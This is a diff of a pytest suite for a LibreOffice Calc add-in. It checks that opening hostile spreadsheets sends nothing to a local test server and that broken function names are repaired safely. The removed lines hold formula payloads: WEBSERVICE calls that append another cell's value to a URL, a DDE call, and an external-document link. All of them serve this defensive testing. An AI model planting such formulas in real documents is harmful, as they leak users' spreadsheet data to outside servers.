@@ -1,36 +1,22 @@
 """Opening a document sends nothing, with the add-in and without it."""
 
 import threading
-import zipfile
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, HTTPServer
 from pathlib import Path
-from xml.sax.saxutils import quoteattr
 
 import pytest
-import xlsxwriter
 
+from addin.calc.template import template
+from install.calc import profile as calc_profile
+from tests.addin.calc import hostile_documents as hostile
 from tests.addin.office import Office, missing, running
 
 pytestmark = [
     pytest.mark.libreoffice,
     pytest.mark.skipif(bool(missing()), reason=missing() or "it is there"),
 ]
-HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
-SPACES = " ".join(
-    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:{version}"'
-    for name, version in {"office": "1.0", "table": "1.0", "text": "1.0", "of": "1.2"}.items()
-)
-OURS = "RENT_PER_MONTH(2)"
-BROKEN = "_xll.RENT_PER_MONTH(2)"
-HOSTILE = {
-    "profits": 'WEBSERVICE("{url}?x=" & [.A9]) & "profits"',
-    "beside a call": 'WEBSERVICE("{url}?x=" & [.A9]) & T(' + OURS + ")",
-    "beside a broken call": 'WEBSERVICE("{url}?x=" & [.A9]) & T(' + BROKEN + ")",
-    "behind a broken call": BROKEN + ' + LEN(WEBSERVICE("{url}"))',
-    "dde": 'DDE("soffice";"{url}";"A1") & T(' + BROKEN + ")",
-    "another document": "'{url}'#$Sheet1.A1 + " + BROKEN,
-}
+LONG = "ORG.EVENPOINT.CALC.FUNCTIONS.RENTPERMONTH(2)"
 
 
 @pytest.fixture(scope="module")
@@ -64,91 +50,99 @@ def asked() -> Iterator[tuple[str, list[str]]]:
     server.server_close()
 
 
-def sheet(formulas: list[str]) -> str:
-    """The body of an OpenDocument spreadsheet whose column B holds formulas, each with a value."""
-    rows = "".join(
-        "<table:table-row><table:table-cell/><table:table-cell "
-        f'table:formula={quoteattr("of:=" + formula)} office:value-type="float" '
-        'office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>'
-        for formula in formulas
-    )
-    return (
-        '<office:body><office:spreadsheet><table:table table:name="Sheet1">'
-        f"{rows}</table:table></office:spreadsheet></office:body>"
-    )
-
-
-def flat(path: Path, formulas: list[str]) -> None:
-    """Write an .fods document."""
-    kind = 'office:mimetype="application/vnd.oasis.opendocument.spreadsheet"'
-    text = f'{HEAD}<office:document {SPACES} office:version="1.3" {kind}>{sheet(formulas)}'
-    path.write_text(f"{text}</office:document>", encoding="utf-8")
-
-
-def packed(path: Path, formulas: list[str]) -> None:
-    """Write an .ods document."""
-    kind = "application/vnd.oasis.opendocument.spreadsheet"
-    entry = '<manifest:file-entry manifest:full-path="{}" manifest:media-type="{}"/>'
-    listed = entry.format("/", kind) + entry.format("content.xml", "text/xml")
-    space = 'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
-    body = f'{HEAD}<office:document-content {SPACES} office:version="1.3">{sheet(formulas)}'
-    with zipfile.ZipFile(path, "w") as parts:
-        parts.writestr("mimetype", kind)
-        parts.writestr("content.xml", f"{body}</office:document-content>")
-        parts.writestr(
-            "META-INF/manifest.xml",
-            f'<manifest:manifest {space} manifest:version="1.3">{listed}</manifest:manifest>',
-        )
-
-
-def excel(path: Path, formulas: list[str]) -> None:
-    """Write an .xlsx workbook; a link to another document is DDE's way of writing it there."""
-    with xlsxwriter.Workbook(path) as book:
-        page = book.add_worksheet("Sheet1")
-        for row, formula in enumerate(formulas):
-            said = formula.replace("[.A9]", "A9").replace("WEBSERVICE", "_xlfn.WEBSERVICE")
-            page.write_formula(row, 1, "=" + said.replace(";", ","), None, 1)
-
-
-WRITERS = {"fods": flat, "ods": packed, "xlsx": excel}
-
-
-@pytest.mark.parametrize("kind", WRITERS)
-@pytest.mark.parametrize("hostile", HOSTILE)
+@pytest.mark.parametrize("kind", hostile.HOSTILE)
 @pytest.mark.parametrize("with_add_in", [True, False], ids=["add-in", "bare"])
 def test_opening_a_hostile_document_sends_nothing(
-    calc: Office, office: Office, asked, tmp_path: Path, kind: str, hostile: str, with_add_in: bool
+    calc: Office, office: Office, asked, tmp_path: Path, kind: str, with_add_in: bool
 ) -> None:
-    """Neither what it asks for nor what its other cells hold reaches a server on opening."""
+    """Neither what it asks for nor what its other cells hold reaches a server."""
     url, paths = asked
-    path = tmp_path / f"hostile.{kind}"
-    WRITERS[kind](path, [HOSTILE[hostile].format(url=url), BROKEN])
     program = calc if with_add_in else office
-    program.ask("open", str(path))
-    program.ask("read")
+    for number, name in enumerate(hostile.HOSTILE[kind]):
+        program.ask("open", str(hostile.write(tmp_path, kind, name, f"{url}{number}/")))
+        program.ask("read")
+        assert paths == [], name
+    program.ask("close")
     assert paths == []
 
 
-def test_the_server_counts_what_is_sent(asked) -> None:
-    """The count above can be other than zero."""
-    import urllib.request
-
+@pytest.mark.parametrize("kind", hostile.HOSTILE)
+@pytest.mark.parametrize(
+    "name",
+    [
+        "unknown until it is typed",
+        "unknown until it is typed, a word with our name in it",
+        "by an address that is put together",
+    ],
+)
+def test_the_same_documents_send_what_somebody_types(
+    calc: Office, asked, tmp_path: Path, kind: str, name: str
+) -> None:
+    """They are live: mending without a look would send, so the count could be other than zero."""
     url, paths = asked
-    urllib.request.urlopen(f"{url}?x=1").read()
-    assert paths == ["/?x=1"]
+    calc.ask("open", str(hostile.write(tmp_path, kind, name, url)))
+    assert paths == []
+    calc.ask("type_again")
+    calc.ask("calculate")
+    assert paths != []
+
+
+@pytest.mark.parametrize(
+    ("kind", "name"),
+    [
+        ("fods", "of another document, elsewhere"),
+        ("fods", "of another sheet"),
+        ("fods", "of another area"),
+        ("ods", "of a DDE server"),
+        ("xlsx", "of another document, elsewhere"),
+    ],
+)
+def test_a_document_whose_links_are_blocked_stays_as_it_is(
+    calc: Office, asked, tmp_path: Path, kind: str, name: str
+) -> None:
+    """LibreOffice asks its user first; our names are not mended before that."""
+    calc.ask("open", str(hostile.write(tmp_path, kind, name, asked[0])))
+    assert "_xll" in str(calc.ask("formulas"))
 
 
 def test_a_harmless_document_with_broken_names_is_mended(calc: Office, tmp_path: Path) -> None:
-    """2 an hour are 1,460 a month: the name is typed again where nothing reaches out."""
+    """2 an hour are 1,460 a month; neither other words nor links to click keep it broken."""
     path = tmp_path / "harmless.fods"
-    flat(path, [BROKEN])
+    formulas = [hostile.BROKEN, 'HYPERLINK("http://127.0.0.1/")', '"WEBSERVICE, DDE"']
+    hostile.flat(path, hostile.document(hostile.sheet(formulas)))
     calc.ask("open", str(path))
     assert 1_460.0 in calc.ask("read")["Sheet1"].values()
 
 
-def test_a_document_without_our_names_is_not_touched(calc: Office, tmp_path: Path) -> None:
-    """What LibreOffice stored stays stored: nothing is computed again, not even a wrong value."""
-    path = tmp_path / "stored.fods"
-    flat(path, ['LEN("profits and RENT_PER_MONTH(2)")'])
+def test_a_link_to_our_own_add_in_in_excel_is_no_link(calc: Office, asked, tmp_path: Path) -> None:
+    """Excel keeps where the add-in was; the call is mended, and nobody looks there."""
+    url, paths = asked
+    name = "of an add-in that is elsewhere"
+    calc.ask("open", str(hostile.write(tmp_path, "xlsx", name, url)))
+    assert 1_460.0 in calc.ask("read")["Sheet1"].values()
+    assert paths == []
+
+
+def test_only_cells_with_broken_names_are_typed_again(tmp_path: Path) -> None:
+    """A LibreOffice that computes nothing on opening shows what Excel stored, here always 1."""
+    path = tmp_path / "stored.xlsx"
+    names = ['LEN("profits and RENT_PER_MONTH(2)")', LONG, 'LEN("FITS(")', "B2+1"]
+    with running(calc_profile.package(calc_profile.place()), computes=False) as office:
+        for formulas in (names, [*names, hostile.BROKEN]):
+            hostile.workbook(path, formulas)
+            office.ask("open", str(path))
+            shown = office.ask("read")["Sheet1"]
+            mended = [1_460.0] * (len(formulas) - len(names))
+            assert [shown[f"1,{row}"] for row in range(len(formulas))] == [1.0] * 4 + mended
+            assert office.ask("modified") is False
+
+
+def test_the_template_needs_no_mending_and_links_to_nothing(calc: Office, tmp_path: Path) -> None:
+    """It has the names that Calc itself stores: none of its cells is typed again."""
+    path = tmp_path / "template.ods"
+    path.write_bytes(template())
     calc.ask("open", str(path))
+    assert calc.ask("links") == []
     assert calc.ask("modified") is False
+    functions = {text.partition("(")[0] for text in calc.ask("formulas")["Functions"].values()}
+    assert not functions & {"=WEBSERVICE", "=DDE", "=INDIRECT", "=HYPERLINK"}
